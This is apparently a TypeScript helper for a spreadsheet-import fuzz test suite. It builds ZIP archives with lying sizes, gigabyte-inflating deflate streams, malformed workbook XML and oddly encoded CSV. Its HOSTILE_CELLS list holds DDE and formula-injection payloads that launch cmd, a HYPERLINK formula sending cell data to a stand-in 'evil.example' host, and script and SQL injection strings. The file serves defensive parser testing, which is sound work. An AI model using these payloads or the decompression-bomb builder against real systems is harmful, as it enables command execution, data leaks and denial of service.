/*
 * Hostile spreadsheet files for the import fuzz suite, built here byte by byte so that every lie a
 * crafted file can tell is in reach: ZIP entries whose declared sizes are false, ZIP64 sizes of
 * terabytes, deflate streams that inflate to gigabytes from a few kilobytes, workbooks whose XML is
 * truncated, malformed or full of entities, and CSV text in other encodings.
 */
import { randomBytes } from 'node:crypto'
import { constants, crc32, deflateRawSync } from 'node:zlib'

import iconv from 'iconv-lite'

export interface ZipPart {
  name: string
  /** The part's content; compressed with deflate unless `stored`. */
  data?: Buffer
  /** Already compressed bytes (deflate), for parts too large to hold uncompressed. */
  deflated?: Buffer
  stored?: boolean
  /** What the directory claims the part unpacks to (default: the truth). */
  declaredSize?: number
  /** Claims a ZIP64 size (the 32-bit fields say 0xFFFFFFFF). */
  zip64Size?: bigint
  /** The general-purpose flags (bit 0: encrypted). */
  flags?: number
}

/** A ZIP archive of the parts, with a central directory as spreadsheet programs write it. */
export function zip(parts: readonly ZipPart[]): Buffer {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let offset = 0
  for (const part of parts) {
    const name = Buffer.from(part.name, 'utf8')
    const data = part.data ?? Buffer.alloc(0)
    const method = part.stored ? 0 : 8
    const body = part.deflated ?? (part.stored ? data : deflateRawSync(data))
    const size = part.declaredSize ?? data.length
    const crc = part.data ? crc32(data) : 0
    const zip64 = part.zip64Size !== undefined
    const extra = zip64 ? Buffer.alloc(20) : Buffer.alloc(0)
    if (zip64) {
      extra.writeUInt16LE(1, 0)
      extra.writeUInt16LE(16, 2)
      extra.writeBigUInt64LE(part.zip64Size ?? 0n, 4)
      extra.writeBigUInt64LE(BigInt(body.length), 12)
    }
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(zip64 ? 45 : 20, 4)
    local.writeUInt16LE(part.flags ?? 0, 6)
    local.writeUInt16LE(method, 8)
    local.writeUInt32LE(crc, 14)
    local.writeUInt32LE(zip64 ? 0xffffffff : body.length, 18)
    local.writeUInt32LE(zip64 ? 0xffffffff : size >>> 0, 22)
    local.writeUInt16LE(name.length, 26)
    local.writeUInt16LE(extra.length, 28)
    locals.push(local, name, extra, body)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(zip64 ? 45 : 20, 4)
    entry.writeUInt16LE(zip64 ? 45 : 20, 6)
    entry.writeUInt16LE(part.flags ?? 0, 8)
    entry.writeUInt16LE(method, 10)
    entry.writeUInt32LE(crc, 16)
    entry.writeUInt32LE(zip64 ? 0xffffffff : body.length, 20)
    entry.writeUInt32LE(zip64 ? 0xffffffff : size >>> 0, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt16LE(extra.length, 30)
    entry.writeUInt32LE(offset, 42)
    central.push(entry, name, extra)
    offset += local.length + name.length + extra.length + body.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.length, 8)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

/**
 * A raw deflate stream that inflates to `copies` times `chunk`, made without ever holding or
 * compressing the whole: each copy is compressed on its own and ended with a full flush (which
 * resets the window, so the pieces can follow each other), and a final empty block ends the stream.
 * 1 MiB of one repeated character compresses to about 1 KiB, so a gigabyte fits in about a megabyte.
 */
export function inflatingTo(chunk: Buffer, copies: number, prefix = Buffer.alloc(0)): Buffer {
  const flushed = (bytes: Buffer) => deflateRawSync(bytes, { finishFlush: constants.Z_FULL_FLUSH, level: 9 })
  const piece = flushed(chunk)
  return Buffer.concat([
    flushed(prefix),
    ...Array.from({ length: copies }, () => piece),
    deflateRawSync(Buffer.alloc(0)),
  ])
}

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const DOC_RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

export const escapeXml = (text: string): string =>
  text.replace(/[<>&"']/g, (c) => `&${{ '<': 'lt', '>': 'gt', '&': 'amp', '"': 'quot', "'": 'apos' }[c]};`)

/** Column letters of a 0-based index: 0 → A, 26 → AA. */
export function columnName(index: number): string {
  let name = ''
  for (let rest = index + 1; rest > 0; rest = Math.floor((rest - 1) / 26))
    name = String.fromCharCode(65 + ((rest - 1) % 26)) + name
  return name
}

/** What a worksheet's XML starts with, up to its first row. */
export const SHEET_START = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="${MAIN}"><sheetData>`

/** A worksheet's XML with inline-string cells. */
export function sheetXml(rows: readonly (readonly string[])[]): string {
  const body = rows
    .map(
      (cells, r) =>
        `<row r="${r + 1}">${cells
          .map(
            (text, c) =>
              `<c r="${columnName(c)}${r + 1}" t="inlineStr"><is><t xml:space="preserve">${escapeXml(text)}</t></is></c>`,
          )
          .join('')}</row>`,
    )
    .join('')
  return `${SHEET_START}${body}</sheetData></worksheet>`
}

/** The parts of a one-sheet workbook around the given sheet part (and an optional shared string table). */
export function workbookParts(sheet: ZipPart, sharedStrings?: ZipPart): ZipPart[] {
  const text = (name: string, xml: string): ZipPart => ({ name, data: Buffer.from(xml) })
  return [
    text(
      '[Content_Types].xml',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
        (sharedStrings
          ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
          : '') +
        '</Types>',
    ),
    text(
      '_rels/.rels',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELS}">` +
        `<Relationship Id="rId1" Type="${DOC_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    text(
      'xl/workbook.xml',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="${MAIN}" xmlns:r="${DOC_RELS}">` +
        '<sheets><sheet name="Oferty" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    text(
      'xl/_rels/workbook.xml.rels',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELS}">` +
        `<Relationship Id="rId1" Type="${DOC_RELS}/worksheet" Target="worksheets/sheet1.xml"/>` +
        (sharedStrings ? `<Relationship Id="rId2" Type="${DOC_RELS}/sharedStrings" Target="sharedStrings.xml"/>` : '') +
        '</Relationships>',
    ),
    { ...sheet, name: 'xl/worksheets/sheet1.xml' },
    ...(sharedStrings ? [{ ...sharedStrings, name: 'xl/sharedStrings.xml' }] : []),
  ]
}

/** A one-sheet workbook of the given rows. */
export function xlsx(rows: readonly (readonly string[])[]): Buffer {
  return zip(workbookParts({ name: 'sheet', data: Buffer.from(sheetXml(rows)) }))
}

/** Text in the encodings and byte-order marks spreadsheet programs (and mistakes) produce. */
export const ENCODINGS = [
  'utf-8',
  'utf-8 with BOM',
  'utf-8 with two BOMs',
  'windows-1250',
  'iso-8859-2',
  'utf-16le with BOM',
  'utf-16be with BOM',
  'utf-16le without BOM',
  'utf-32le with BOM',
  'cp852',
  'mixed utf-8 and windows-1250',
] as const
export type Encoding = (typeof ENCODINGS)[number]

export function encode(text: string, encoding: Encoding): Buffer {
  const bom8 = Buffer.from([0xef, 0xbb, 0xbf])
  switch (encoding) {
    case 'utf-8':
      return Buffer.from(text)
    case 'utf-8 with BOM':
      return Buffer.concat([bom8, Buffer.from(text)])
    case 'utf-8 with two BOMs':
      return Buffer.concat([bom8, bom8, Buffer.from(text)])
    case 'utf-16le with BOM':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')])
    case 'utf-16be with BOM':
      return Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')])
    case 'utf-16le without BOM':
      return iconv.encode(text, 'utf-16le')
    case 'utf-32le with BOM':
      return Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), iconv.encode(text, 'utf-32le')])
    case 'mixed utf-8 and windows-1250': {
      const lines = text.split('\n')
      return Buffer.concat(
        lines.map((line, index) => iconv.encode(`${line}\n`, index % 2 === 0 ? 'utf-8' : 'windows-1250')),
      )
    }
    default:
      return iconv.encode(text, encoding)
  }
}

/** Cell values a hostile or careless file carries. */
export const HOSTILE_CELLS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"kliknij")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  'DDE("cmd";"/C calc";"!A0")',
  '<script>alert(1)</script>',
  "'; DROP TABLE offers; --",
  '\u0000',
  '\u202Eevil',
  '\uFEFF',
  '"',
  '""',
  ';;;',
  '\n\n\n',
  'x'.repeat(5000),
  '1e309',
  'NaN',
  '-0',
  '0x10',
  '9'.repeat(400),
  '2026-02-30',
  '31.12.9999',
  '__proto__',
  'constructor',
] as const

/** Random bytes of a length, for cells and files of no meaning at all. */
export const noise = (length: number): Buffer => randomBytes(length)
